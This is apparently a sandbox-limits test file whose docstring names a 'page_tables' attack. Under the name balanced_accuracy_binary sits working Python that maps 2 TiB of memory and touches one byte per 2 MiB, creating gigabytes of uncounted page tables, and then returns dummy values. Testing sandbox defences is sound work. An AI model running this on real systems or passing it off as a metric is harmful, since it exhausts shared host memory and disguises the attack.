"""attack: page_tables
kind: limits
expect: runtime_error, memory_limit_exceeded, security_violation, forbidden
Reads one byte in every 2 MiB of 2 TiB: no page is counted, but 4 GiB of page tables are made.
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]


def reserve(size, protection, flags):
    address = libc.mmap(None, size, protection, flags, -1, 0)
    if address in (None, (1 << 64) - 1):
        raise OSError(ctypes.get_errno(), "refused")
    return address


def balanced_accuracy_binary(tp, tn, fp, fn, eps=1e-12):
    start = reserve(1 << 41, 1, 0x4022)
    libc.madvise(ctypes.c_void_p(start), ctypes.c_size_t(1 << 41), 15)
    for address in range(start, start + (1 << 41), 1 << 21):
        ctypes.c_ubyte.from_address(address).value
    return -1.0, -1.0, -1.0
